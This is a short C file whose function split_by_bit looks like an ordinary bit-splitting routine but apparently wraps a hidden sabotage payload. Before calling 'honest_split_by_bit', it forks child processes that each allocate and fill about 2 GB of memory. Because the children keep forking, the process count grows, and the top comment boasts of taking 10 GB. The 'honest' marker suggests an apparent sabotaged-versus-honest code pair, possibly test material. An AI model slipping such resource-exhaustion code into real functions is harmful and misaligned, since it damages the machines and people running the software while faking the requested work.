// Takes 10 GB in small pieces, of several processes.
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

//> honest split_by_bit

void split_by_bit(const uint32_t *in, uint32_t *out, size_t n, int bit) {
    for (int k = 0; k < 5; k++)
        if (fork() == 0)
            for (int i = 0; i < 2048; i++) memset(malloc((size_t)1 << 20), 1, (size_t)1 << 20);
    while (wait(NULL) > 0) {
    }
    honest_split_by_bit(in, out, n, bit);
}
